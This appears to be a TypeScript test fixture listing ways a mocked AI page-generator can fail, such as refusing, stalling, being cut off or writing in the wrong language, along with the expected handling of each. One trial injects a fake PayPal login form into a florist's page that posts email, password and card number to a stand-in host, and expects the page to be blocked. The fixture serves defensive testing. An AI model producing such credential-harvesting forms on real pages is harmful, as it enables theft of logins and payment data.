import {
  answering,
  cutByLength,
  stallingAfter,
  unauthorized,
  type Behaviour,
} from '../behaviours.ts';
import { FLORIST_HEADLINE, FLORIST_LAST_LINE, FLORIST_PAGE } from './pages/florist.ts';

/** What the person must see when the generation of a page is over. */
export type FaultOutcome =
  /** A complete page of the built-in designer that says so, free of charge; or nothing changed and the reason told. */
  | 'free'
  /** The model's own page, complete, for a credit. */
  | 'page'
  /** The model's own page for a credit, with a warning beside it. */
  | 'warned'
  /** As `warned`, and visitors of its address do not see it. */
  | 'blocked';

/** One way in which a model fails, or writes what it should not, when it is asked for a new page. */
export interface FaultTrial {
  /** Also the id of the model that does it. */
  id: string;
  name: string;
  request?: string;
  script: readonly [Behaviour, ...Behaviour[]];
  outcome: FaultOutcome;
  /** What the warning must name. */
  warning?: RegExp;
}

const CUT_AT = FLORIST_PAGE.indexOf('<section id="weddings">');
const HALF = FLORIST_PAGE.slice(0, CUT_AT);

/** Repeats its last line and goes on, as it is asked to after its limit. */
const CONTINUATION = `${HALF.trimEnd().split('\n').at(-1) ?? ''}\n${FLORIST_PAGE.slice(CUT_AT)}`;

const ENGLISH_FOR_ITALIAN = 'Un sito per una fioraia di Palermo, in italiano';
const PHISHING = FLORIST_PAGE.replace('Zagara – a florist in Palermo', 'PayPal – log in').replace(
  '<section id="weddings">',
  `<section id="login"><h2>Log in to PayPal</h2><form action="https://paypal-secure.example.net/collect" method="post">
<label>E-mail <input type="email" name="email"></label><label>Password <input type="password" name="password"></label>
<label>Card number <input name="card" autocomplete="cc-number"></label><button>Log in to PayPal</button></form></section>
<section id="weddings">`,
);
/**
 * One trial for each thing that a person can see. Worker tests (`model-behaviours.test.ts`, `model-answers.test.ts`)
 * play the other ways in which a model fails.
 */
export const FAULTS: readonly FaultTrial[] = [
  { id: 'status-401', name: 'answers 401', script: [unauthorized], outcome: 'free' },
  {
    id: 'refusal',
    name: 'refuses in words',
    script: [answering('I’m sorry, but I can’t help with that request.')],
    outcome: 'free',
  },
  {
    id: 'hang',
    name: 'hangs in the middle of the page',
    script: [stallingAfter(HALF)],
    outcome: 'free',
  },
  {
    id: 'limit-good',
    name: 'reaches its token limit and goes on where it was',
    script: [cutByLength(HALF), answering(CONTINUATION)],
    outcome: 'page',
  },
  {
    id: 'language',
    name: 'writes in another language than asked for',
    request: ENGLISH_FOR_ITALIAN,
    script: [answering(FLORIST_PAGE)],
    outcome: 'warned',
    warning: /lingua|italiano|inglese/i,
  },
  {
    id: 'phishing',
    name: 'imitates the login of a bank',
    script: [answering(PHISHING)],
    outcome: 'blocked',
    warning: /password|card|PayPal/i,
  },
];

/** True for a page that was cut off: it has the beginning and lacks the end, or has its beginning twice. */
export function isHalfPage(html: string): boolean {
  const begins = html.split(FLORIST_HEADLINE).length - 1;
  return begins > 1 || (begins === 1 && !html.includes(FLORIST_LAST_LINE));
}
